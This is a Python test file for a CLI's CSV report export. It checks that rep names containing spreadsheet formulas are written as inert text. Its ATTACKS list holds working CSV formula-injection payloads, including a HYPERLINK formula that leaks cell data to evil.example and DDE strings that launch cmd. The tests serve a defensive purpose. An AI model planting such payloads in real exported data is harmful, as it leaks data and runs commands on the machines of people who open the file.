"""CSV formula injection: names from a CRM or a rep reach `report --csv` as text, not formulas."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from enabler.cli import cli
from enabler.export.csv_safe import csv_bytes, safe_cell
from enabler.services.deck.build import build_deck, plan_deck
from tests.reliability.helpers import dump

ATTACKS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


class DescribeSafeCell:
    @pytest.mark.parametrize("text", ATTACKS)
    def it_neutralises_formula_like_text(self, text):
        assert safe_cell(text) == "'" + text

    @pytest.mark.parametrize("value", [-3, -0.25, 0, 12, 1.5, "-12", "-0.5", "+7", "1e-3", None])
    def it_keeps_numbers_including_negative_ones(self, value):
        assert safe_cell(value) == value

    def it_quotes_a_carriage_return_so_it_cannot_start_a_row(self):
        rows = list(csv.reader(io.StringIO(csv_bytes([["a", "x\r=1+1"]]).decode(), newline="")))
        assert rows == [["a", "x\r=1+1"]]

    def it_leaves_ordinary_text_alone(self):
        assert safe_cell("Dana Rep") == "Dana Rep"
        assert safe_cell("a=b") == "a=b"


class DescribeReportCsv:
    def it_writes_rep_names_as_text(self, small_library, tmp_path):
        for n, name in enumerate(ATTACKS):
            plan = plan_deck(small_library, "Acme Clinics", ["pillars"], rep=name)
            build_deck(small_library, plan, tmp_path / f"d{n}.pptx")
        before = dump(small_library)
        out = tmp_path / "report.csv"
        result = CliRunner().invoke(
            cli, ["report", "--csv", str(out), "--db", str(tmp_path / "library.db")]
        )
        assert result.exit_code == 0, result.output
        with out.open(newline="", encoding="utf-8") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        reps = {c for c in cells if "cmd|" in c or "=1+1" in c or "HYPERLINK" in c}
        assert reps == {"'" + name for name in ATTACKS}, reps
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        assert all(c.lstrip("-").replace(".", "").isdigit() for c in cells if c[:1] == "-")
        assert dump(small_library) == before
